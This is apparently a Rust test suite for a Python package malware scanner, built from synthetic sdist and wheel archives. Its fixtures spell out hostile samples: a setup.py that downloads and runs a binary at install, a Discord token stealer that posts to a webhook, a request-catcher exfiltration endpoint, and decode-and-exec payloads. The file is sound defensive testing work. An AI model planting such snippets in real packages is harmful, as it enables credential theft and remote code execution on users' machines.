//! Whole-archive scans of synthetic distributions: verdicts, rule hits and failing closed.

use std::io::Write;
use std::sync::OnceLock;

use palisade_scan::{ScanConfig, Scanner, Verdict};

fn scanner() -> &'static Scanner {
    static S: OnceLock<Scanner> = OnceLock::new();
    S.get_or_init(|| Scanner::new(ScanConfig::default()).unwrap())
}

fn sdist(name: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let mut t = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    let root = name.trim_end_matches(".tar.gz");
    let (n, v) = root.rsplit_once('-').unwrap();
    let pkg_info = format!("Metadata-Version: 2.1\nName: {n}\nVersion: {v}\nSummary: A demo package for tests\n");
    let mut all: Vec<(String, String)> = vec![(format!("{root}/PKG-INFO"), pkg_info)];
    all.extend(files.iter().map(|(p, c)| (format!("{root}/{p}"), c.to_string())));
    for (p, c) in all {
        let mut h = tar::Header::new_gnu();
        h.set_size(c.len() as u64);
        h.set_mode(0o644);
        t.append_data(&mut h, p, c.as_bytes()).unwrap();
    }
    t.into_inner().unwrap().finish().unwrap()
}

fn wheel(files: &[(&str, &str)]) -> Vec<u8> {
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut buf);
        let o = zip::write::SimpleFileOptions::default();
        for (p, c) in files {
            z.start_file(*p, o).unwrap();
            z.write_all(c.as_bytes()).unwrap();
        }
        z.finish().unwrap();
    }
    buf.into_inner()
}

const SETUP_OK: &str = "from setuptools import setup\nsetup(name='demo')\n";

#[test]
fn honest_sdist_is_clean() {
    let data = sdist(
        "demo_tool-1.0.tar.gz",
        &[("setup.py", SETUP_OK), ("demo_tool/__init__.py", "import requests\ndef get(u):\n    return requests.get(u)\n")],
    );
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    assert_eq!(r.project.as_deref(), Some("demo_tool"));
}

#[test]
fn install_time_dropper_is_malicious() {
    let setup = "import os, urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve('http://203.0.113.7/x', '/tmp/x')\nos.system('chmod +x /tmp/x && /tmp/x')\nsetup(name='demo')\n";
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", setup)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let f = r.findings.iter().find(|f| f.rule == "py-install-download-exec").unwrap();
    assert_eq!(f.path, "demo_tool-1.0/setup.py");
    assert_eq!(f.line, Some(3));
    assert!(f.excerpt.contains("urlretrieve"));
}

#[test]
fn stealer_in_a_wheel_is_flagged_by_rules() {
    let code = "import os, requests\nLOCAL = os.getenv('LOCALAPPDATA')\npaths = [LOCAL + '\\\\Discord\\\\Local Storage\\\\leveldb']\nHOOK = 'https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789'\ndef send(t):\n    requests.post(HOOK, json={'content': t})\n";
    let data = wheel(&[
        ("stealer/__init__.py", "from .core import send\n"),
        ("stealer/core.py", code),
        ("stealer-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: stealer\nVersion: 1.0\n"),
    ]);
    let r = scanner().scan_bytes(&data, "stealer-1.0-py3-none-any.whl");
    let rules: Vec<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
    assert!(rules.contains(&"exfil-discord-webhook"), "{rules:?}");
    assert!(rules.contains(&"cred-discord-token"), "{rules:?}");
    assert!(r.verdict >= Verdict::Suspicious, "{:#?}", r.findings);
}

#[test]
fn typosquat_name_is_reported() {
    let data = sdist("reqeusts-2.0.tar.gz", &[("setup.py", SETUP_OK)]);
    let r = scanner().scan_bytes(&data, "reqeusts-2.0.tar.gz");
    assert!(r.findings.iter().any(|f| f.rule == "meta-typosquat" && f.message.contains("requests")), "{:#?}", r.findings);
}

#[test]
fn unreadable_archive_fails_closed() {
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK)]);
    let r = scanner().scan_bytes(&data[..data.len() / 2], "demo_tool-1.0.tar.gz");
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(!r.complete);
    assert!(r.findings.iter().any(|f| f.rule == "scan-incomplete"));
}

#[test]
fn tests_and_docs_weigh_little() {
    let code = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK), ("tests/test_codec.py", code)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    assert!(r.findings.iter().any(|f| f.rule == "py-decode-exec"), "still reported");
}

#[test]
fn endpoint_and_request_in_different_files() {
    let conf = "ENDPOINT = 'https://abcdefghijklmnop.oastify.com/x'\n";
    let send = "import requests\nfrom .conf import ENDPOINT\ndef ping(d):\n    requests.post(ENDPOINT, data=d)\n";
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK), ("demo_tool/conf.py", conf), ("demo_tool/send.py", send)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    let f = r.findings.iter().find(|f| f.rule == "exfil-request-catcher").expect("rule fires");
    assert_eq!(f.severity, palisade_scan::Severity::Medium, "{f:?}");
    // Without any network use in the package the same URL weighs low.
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", SETUP_OK), ("demo_tool/conf.py", conf)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert_eq!(r.findings.iter().find(|f| f.rule == "exfil-request-catcher").unwrap().severity, palisade_scan::Severity::Low);
}

#[test]
fn packed_payload_executed_in_setup() {
    let blob = "9".repeat(6000);
    let setup = format!("from setuptools import setup\nP = [{blob}]\nexec(''.join(chr(c) for c in P))\nsetup(name='demo')\n");
    let data = sdist("demo_tool-1.0.tar.gz", &[("setup.py", &setup)]);
    let r = scanner().scan_bytes(&data, "demo_tool-1.0.tar.gz");
    assert!(r.findings.iter().any(|f| f.rule == "py-packed-exec"), "{:#?}", r.findings);
    assert_eq!(r.verdict, Verdict::Malicious);
}
